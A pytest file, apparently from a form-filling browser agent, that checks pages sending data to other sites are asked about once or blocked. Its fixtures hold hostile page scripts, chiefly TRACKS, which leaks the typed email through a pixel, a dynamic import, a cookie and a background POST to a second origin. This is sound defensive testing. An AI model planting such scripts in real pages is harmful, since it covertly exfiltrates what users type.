"""Other sites are asked for nothing once something was typed, but where a person lets a page."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar
from urllib.parse import parse_qs, urlsplit

import pytest

from steadyhand.adapters.net.address import serve_loopback
from steadyhand.core.answer.sheet import QuestionKind
from steadyhand.testing import ScriptedHuman

from .rig import YES, Applied, Handler
from .site import Hostile, form, hostile

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
RECEIVED = "<h1>Application received</h1><p>Your reference is WD-48213.</p>"
ASKS_FIRST = """<script src="%(to)s/before.js"></script><script>
document.forms[0].onsubmit = async (e) => {
  e.preventDefault();
  await fetch("%(to)s/upload/token", { method: "POST", mode: "no-cors", body: "site=4711" });
  document.forms[0].submit();
};
</script>"""
TRACKS = """<script src="%(to)s/before.js"></script><script>
const said = () => btoa([...document.querySelector("[name=mail]").value].reverse().join(""));
document.addEventListener("focusout", () => {
  new Image().src = "%(to)s/pixel?" + said();
  import("%(to)s/" + said() + ".js").catch(() => 0);
  document.cookie = "kept=" + said();
});
document.forms[0].addEventListener("submit", () => {
  fetch("%(to)s/upload/all", { method: "POST", mode: "no-cors", keepalive: true, body: said() });
});
</script>"""
LISTED = """<label>Harbour <select name=harbour required><option value="">Choose</select></label>
<script>
let asked = false;
const ask = () => fetch("%(to)s/harbours", { mode: "no-cors" }).then(() => {
  for (const name of ["Emden", "Kiel"]) document.forms[0].harbour.add(new Option(name, name));
}, () => 0);
document.querySelector("[name=mail]").addEventListener("change", () => asked || (asked = ask()));
</script>"""


@pytest.fixture
def sites() -> Iterator[tuple[Hostile, Hostile]]:
    with hostile() as site, hostile() as other:
        site.answer = (200, RECEIVED)
        yield site, other


def about(human: ScriptedHuman, origin: str) -> list[str]:
    return [q.text for q in human.asked if q.kind is QuestionKind.YES_NO and origin in q.text]


@pytest.mark.parametrize(("allows", "status"), [(True, "submitted"), (False, "needs_human")])
async def test_a_page_that_asks_another_site_before_it_sends_is_asked_about_once(
    sites: tuple[Hostile, Hostile], tmp_path: Path, applied: Applied, *, allows: bool, status: str
) -> None:
    site, other = sites
    site.page = form(ASKS_FIRST % {"to": other.origin})
    human = ScriptedHuman({**YES, "yes_no": allows})
    receipt = await applied(site, tmp_path, human, allow=(other.origin,))
    assert receipt.status == status, receipt.errors
    assert len(about(human, other.origin)) == 1
    assert len(site.posted) == int(allows)
    assert other.uploaded == [b"site=4711"] * int(allows)


async def test_what_measures_and_records_in_secret_gets_nothing_and_is_not_asked_about(
    sites: tuple[Hostile, Hostile], tmp_path: Path, applied: Applied
) -> None:
    site, other = sites
    site.page = form(TRACKS % {"to": other.origin})
    human = ScriptedHuman(YES)
    receipt = await applied(site, tmp_path, human, allow=(other.origin,))
    assert receipt.status == "submitted", receipt.errors
    assert (other.asked, other.uploaded) == (["/before.js"], [])
    assert about(human, other.origin) == []


async def test_a_list_that_comes_from_another_site_is_asked_about_once(
    sites: tuple[Hostile, Hostile], tmp_path: Path, applied: Applied
) -> None:
    site, other = sites
    site.page = form(LISTED % {"to": other.origin})
    human = ScriptedHuman({**YES, "yes_no": True, "Harbour": "Kiel"})
    receipt = await applied(site, tmp_path, human, allow=(other.origin,))
    assert receipt.status == "submitted", receipt.errors
    assert len(about(human, other.origin)) == 1
    assert site.posted[0]["harbour"] == ["Kiel"]


LOOKS_UP = """<label id=named>Town</label><input id=town name=town role=combobox required
 aria-labelledby=named aria-expanded=false aria-controls=found aria-autocomplete=list
 autocomplete=off><ul id=found role=listbox hidden></ul><script>
town.oninput = async () => {
  const asked = "%(to)s/towns?q=" + encodeURIComponent(town.value) + more();
  const told = await (await fetch(asked)).json().catch(() => []);
  found.replaceChildren();
  for (const name of told) {
    const option = Object.assign(document.createElement("li"), { textContent: name });
    option.setAttribute("role", "option");
    option.onmousedown = (e) => { e.preventDefault(); town.value = picked = name; shut(); };
    found.append(option);
  }
  found.hidden = !told.length;
  town.setAttribute("aria-expanded", String(!found.hidden));
};
let picked = "";
const more = () => %(more)s;
const shut = () => { found.hidden = true; town.setAttribute("aria-expanded", "false"); };
town.onblur = () => { if (town.value !== picked) town.value = ""; shut(); };
</script>"""
TOWNS = ("Emden", "Emmerich", "Eutin")


class Towns(Handler):
    """A service that pages of any site look towns up at."""

    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        begin = parse_qs(urlsplit(self.path).query).get("q", [""])[0].casefold()
        found = [name for name in TOWNS if begin and name.casefold().startswith(begin)]
        self.say(json.dumps(found).encode(), "application/json")

    def end_headers(self) -> None:
        self.send_header("Access-Control-Allow-Origin", "*")
        super().end_headers()


@pytest.fixture
def towns() -> Iterator[str]:
    Towns.asked.clear()
    with serve_loopback(Towns) as origin:
        yield origin


@pytest.mark.parametrize("allows", [True, False])
async def test_a_place_that_is_looked_up_at_another_site_is_asked_about_once_by_its_field(
    sites: tuple[Hostile, Hostile], towns: str, tmp_path: Path, applied: Applied, *, allows: bool
) -> None:
    site, _ = sites
    site.page = form(LOOKS_UP % {"to": towns, "more": "''"})
    human = ScriptedHuman({**YES, "yes_no": allows, "Town": "Emden"})
    receipt = await applied(site, tmp_path, human, allow=(towns,))
    (question,) = about(human, towns)
    assert "'Town'" in question
    assert (receipt.status == "submitted") is allows, receipt.errors
    if allows:
        assert site.posted[0]["town"] == ["Emden"]
        assert {urlsplit(path).path for path in Towns.asked} == {"/towns"}
    else:
        assert Towns.asked == []


async def test_beside_that_text_nothing_else_is_told_there(
    sites: tuple[Hostile, Hostile], towns: str, tmp_path: Path, applied: Applied
) -> None:
    site, _ = sites
    tells = "'&by=' + document.querySelector('[name=mail]').value"
    site.page = form(LOOKS_UP % {"to": towns, "more": tells})
    human = ScriptedHuman({**YES, "yes_no": True, "Town": "Emden"})
    await applied(site, tmp_path, human, allow=(towns,))
    assert not [path for path in Towns.asked if "brandt" in path]
